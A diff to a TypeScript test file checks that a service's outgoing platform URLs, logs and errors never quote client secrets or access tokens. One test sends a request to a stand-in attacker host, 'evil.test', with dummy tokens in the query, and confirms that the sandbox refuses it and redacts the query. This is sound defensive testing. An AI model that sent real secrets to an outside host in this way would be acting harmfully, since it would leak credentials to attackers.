@@ -1,6 +1,5 @@
 // Issue 10, secrets in URLs: no outgoing platform URL carries a client secret, a code or an access token,
 // and nothing the service logs or puts in a PlatformError quotes one, whatever the platform answers.
-import { env } from "cloudflare:workers";
 import { afterEach, describe, expect, it, vi } from "vitest";
 import { PLATFORMS, type Platform } from "../../src/db/enums";
 import { callPlatform, redactUrl } from "../../src/platforms/call";
@@ -146,7 +145,7 @@ describe("nothing logged or thrown quotes a secret, whatever the platform answer
   });
 
   it("the in-process sandbox fetch names a refused URL without its query", async () => {
-    const fetch = sandboxFetch(env, ORIGIN);
+    const fetch = sandboxFetch(ORIGIN);
     const failure = await fetch("https://evil.test/x?access_token=tok-123&client_secret=s").catch((e) => e);
     expect(String(failure.message)).toContain("https://evil.test/x?…");
     expect(String(failure.message)).not.toContain("tok-123");
